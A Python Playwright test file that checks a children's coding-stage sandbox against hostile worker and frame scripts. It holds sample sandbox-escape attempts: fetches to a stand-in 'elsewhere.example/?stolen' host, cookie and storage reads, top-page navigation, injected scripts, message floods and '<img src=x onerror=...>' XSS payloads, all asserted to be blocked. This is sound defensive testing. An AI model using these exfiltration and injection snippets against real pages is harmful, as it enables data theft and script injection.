"""Hostile programs on the stage: whatever they try, they reach nothing, and the child can go on.

The worst case is played: the worker that runs programs is replaced by one of an attacker. So what holds here holds for
any program that finds a gap in the engine.
"""

import pytest
from playwright.sync_api import Page, Route, expect

from devtools.place import STATIC
from tests.browser.child import Computer, Learner
from tests.browser.conftest import OWN_GAME, WORKSHOP, NewComputer
from tests.browser.programs import make_key, make_stage_work
from tests.browser.waiting import wait_until
from tests.browser.watch import Watch
from tests.club_server import HOST_NAME, ClubServer

PACKS = [WORKSHOP]
Learners = dict[str, Learner]
# What the browser says when the policy stops something.
STOPPED = (
    "Content Security Policy|Refused to|violates|sandbox|WebSocket|EventSource|WebTransport|net::ERR|Failed to load"
    "|Unsafe attempt|Blocked"
)

TRIES = """
const opened = (call, done = 'onopen') => new Promise((resolve, reject) => { call[done] = resolve; call.onerror = reject; });
const tries = {
  fetch: () => fetch(PAGE + 'api/meeting'),
  'fetch without looking at the answer': () => fetch(PAGE + 'api/hands', {method: 'POST', mode: 'no-cors', credentials: 'include'}),
  'fetch elsewhere': () => fetch('http://elsewhere.example/?stolen'),
  XMLHttpRequest: () => { const call = new XMLHttpRequest(); call.open('GET', PAGE + 'api/crews/current', false); call.send(); },
  importScripts: () => importScripts(PAGE + 'static/js/page.js'),
  'a data script': () => importScripts('data:text/javascript,0'),
  'import': () => import(PAGE + 'static/js/page.js'),
  eval: () => eval('1'),
  Function: () => new Function('return 1')(),
  'a timer with text': () => new Promise((done, fail) => { self.done = done; setTimeout('done()'); setTimeout(fail, 300); }),
  WebSocket: () => opened(new WebSocket('ws://' + new URL(PAGE).host + '/')),
  EventSource: () => opened(new EventSource(PAGE)),
  WebTransport: () => new WebTransport('https://elsewhere.example/').ready,
  'a worker of the club': () => new Promise((done, fail) => {
    new Worker(PAGE + 'static/js/page.js').onerror = fail;
    setTimeout(done, 500);
  }),
  indexedDB: () => opened(indexedDB.open('cluboteca'), 'onsuccess'),
  caches: () => caches.open('x'),
  'the page': () => parent.document,
  'the cookie': () => document.cookie,
  localStorage: () => localStorage.length,
};
self.tell = (async () => {
  const reached = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); reached.push(name); } catch { /* as it should be */ }
  }
  // Nobody of the club may hear this.
  new BroadcastChannel('cluboteca').postMessage({kind: 'crew-changed'});
  return reached;
})();
onmessage = () => {};
"""
FRAME_HELPERS = """
const put = (name, set) => { const each = Object.assign(document.createElement(name), set); document.documentElement.append(each); return each; };
const loaded = (each) => new Promise((done, fail) => { each.onload = done; each.onerror = fail; });
"""
FRAME_TRIES = {
    "the page": "parent.document.title",
    "the cookie": "document.cookie",
    "the storage": "localStorage.length",
    "the club's interface": "fetch('/api/crews/current').then(({status}) => status)",
    "the page's address": "top.location = '/adults/sign-in/'",
    "another window": "window.open('/').document",
    "a picture": "loaded(Object.assign(new Image(), {src: '/static/logo.svg'}))",
    "a form": "(() => { put('form', {action: '/', target: '_top'}).submit(); throw 0; })()",
    "a frame of its own": "put('iframe', {src: '/'}).contentDocument.title",
    "a script of its own": "(() => { put('script', {textContent: 'window.ran = 1'}); if (!window.ran) throw 0; })()",
}


def replace_worker(page: Page, script: str, *, before_ours: bool = False) -> None:
    """From now on the attacker's script runs in place of the engine, or in it before anything of ours."""

    def answer(route: Route) -> None:
        ours = (STATIC / "js" / "stage-worker.js").read_text(encoding="utf-8") if before_ours else ""
        route.fulfill(body=script + ours, content_type="text/javascript")

    page.route("**/stage-worker*.js", answer)


def open_stage(computer: Computer, child: Learner) -> Page:
    """A game that runs for ever."""
    computer.sit_down(child)
    turn = ["when_flag", {"forever": [{"turn_right": 5}]}]
    cat = {"library": "cat", "costumes": ["walk-1"], "scripts": [turn]}
    computer.save(OWN_GAME, make_stage_work({"backdrops": ["meadow"], "sprites": {"cat": cat}}), make_key())
    computer.open_activity(OWN_GAME)
    return computer.page


def expect_page_to_answer(computer: Computer) -> None:
    """What belongs to the page itself goes on as if nothing ran."""
    computer.hand.click()
    expect(computer.hand).to_have_attribute("aria-pressed", "true")
    computer.hand.click()
    expect(computer.hand).to_have_attribute("aria-pressed", "false")


def test_an_attackers_worker_reaches_nothing(
    new_computer: NewComputer, learners: Learners, club_server: ClubServer, watch: Watch
) -> None:
    watch.expects(STOPPED)
    computer = new_computer()
    page = computer.page
    replace_worker(page, f"const PAGE = 'http://{HOST_NAME}:{club_server.port}/';" + TRIES)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    open_stage(computer, learners["Ana"])
    computer.stage.start()
    wait_until(page, lambda: len([each for each in page.workers if each.url.startswith("blob:null/")]), 1)
    (worker,) = [each for each in page.workers if each.url.startswith("blob:null/")]
    assert worker.evaluate("self.tell") == []
    assert worker.evaluate("self.origin") == "null"
    assert worker.evaluate("typeof RTCPeerConnection") == "undefined"
    assert not [address for address in asked if "elsewhere" in address]
    expect_page_to_answer(computer)


def test_the_frame_itself_reaches_nothing(new_computer: NewComputer, learners: Learners, watch: Watch) -> None:
    watch.expects(STOPPED)
    computer = new_computer()
    page = open_stage(computer, learners["Matei"])
    computer.stage.start()
    computer.stage.wait_until_running()
    address = page.url
    for name, code in FRAME_TRIES.items():
        frame = next(each for each in page.frames if each.url.endswith("/sandbox/"))
        attempt = (
            f"(async () => {{ {FRAME_HELPERS} try {{ return [await ({code})]; }} catch {{ return 'nothing'; }} }})()"
        )
        assert frame.evaluate(attempt) == "nothing", name
        assert page.url == address, name
    assert len(page.context.pages) == 1
    expect_page_to_answer(computer)


def test_a_frame_that_leads_itself_elsewhere_takes_nothing_along(
    new_computer: NewComputer, learners: Learners, watch: Watch
) -> None:
    watch.expects(STOPPED)
    computer = new_computer()
    page = open_stage(computer, learners["Ilinca"])
    computer.stage.start()
    computer.stage.wait_until_running()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    frame = next(each for each in page.frames if each.url.endswith("/sandbox/"))
    frame.evaluate("void setTimeout(() => { location = 'http://elsewhere.example/?stolen'; })")
    # Its worker goes with it, which the child is told.
    expect(computer.stage.said).to_have_attribute("data-tone", "oops")
    assert not [each for each in asked if "elsewhere" in each]
    expect_page_to_answer(computer)


FLOOD = "for (let n = 0; n < 1e6; n += 1) postMessage({n: -1, response: 'noise'.repeat(20)});"


def answer(response: str) -> str:
    """A worker that answers this to everything."""
    return f"onmessage = ({{data}}) => postMessage({{n: data.n, response: {response}}});"


WITHOUT_ENGINE: dict[str, str] = {
    "floods before it answers": f"onmessage = () => {{ {FLOOD} }};",
    "loops": "onmessage = () => { for (;;); };",
    "is silent": "onmessage = () => {};",
    "breaks": "onmessage = () => { throw new Error('broken'); };",
    "answers nonsense": answer("{kind: 'opened', snapshot: {sprites: '<img src=x onerror=hacked=1>'}}"),
    "answers markup": answer("{kind: 'failed', code: 'x', message: '<img src=x onerror=hacked=1>'}"),
}
IN_THE_MIDDLE: dict[str, str] = {
    "floods while it plays": f"let count = 0; onmessage = () => {{ if ((count += 1) > 30) {FLOOD} }};",
    "loops while it plays": "let count = 0; onmessage = () => { if ((count += 1) > 30) for (;;); };",
}


@pytest.mark.parametrize("way", WITHOUT_ENGINE)
def test_a_worker_that_misbehaves_is_ended_and_the_child_goes_on(
    new_computer: NewComputer, learners: Learners, watch: Watch, way: str
) -> None:
    watch.expects("broken")
    computer = new_computer()
    replace_worker(computer.page, WITHOUT_ENGINE[way])
    page = open_stage(computer, learners["Andrei"])
    computer.stage.start()
    expect_page_to_answer(computer)
    expect(computer.stage.said).to_have_attribute("data-tone", "oops")
    expect(computer.stage.said).not_to_be_empty()
    computer.stage.wait_until_still()
    assert page.evaluate("window.hacked") is None
    assert page.locator("img[src='x']").count() == 0
    # The engine is back, and so is the program.
    page.unroute("**/stage-worker*.js")
    page.reload()
    computer.wait_until_ready()
    computer.stage.start()
    computer.stage.wait_until_running()


@pytest.mark.parametrize("way", IN_THE_MIDDLE)
def test_a_program_that_breaks_out_in_the_middle_of_a_game_is_ended_and_can_be_started_again(
    new_computer: NewComputer, learners: Learners, way: str
) -> None:
    computer = new_computer()
    replace_worker(computer.page, IN_THE_MIDDLE[way], before_ours=True)
    open_stage(computer, learners["Rareș"])
    for _ in range(2):
        computer.stage.start()
        expect(computer.stage.said).to_have_attribute("data-tone", "oops")
        computer.stage.wait_until_still()
        expect_page_to_answer(computer)


# The page itself never ends a program that doesn't answer, so that only the child can have done it.
PATIENT = "const later = setTimeout; setTimeout = (act, ms, ...rest) => (ms === 4_000 ? 0 : later(act, ms, ...rest));"


def test_the_child_stops_an_endless_loop(new_computer: NewComputer, learners: Learners) -> None:
    computer = new_computer()
    computer.page.add_init_script(PATIENT)
    replace_worker(computer.page, IN_THE_MIDDLE["loops while it plays"], before_ours=True)
    open_stage(computer, learners["Daria"])
    stage = computer.stage
    stage.start()
    stage.wait_until_running()
    expect_page_to_answer(computer)
    # While an answer isn't long due, Stop is a wish to the program; it never comes, and the next press ends it.
    computer.page.wait_for_timeout(2_000)
    stage.stop()
    expect(stage.said).to_have_attribute("data-tone", "oops")
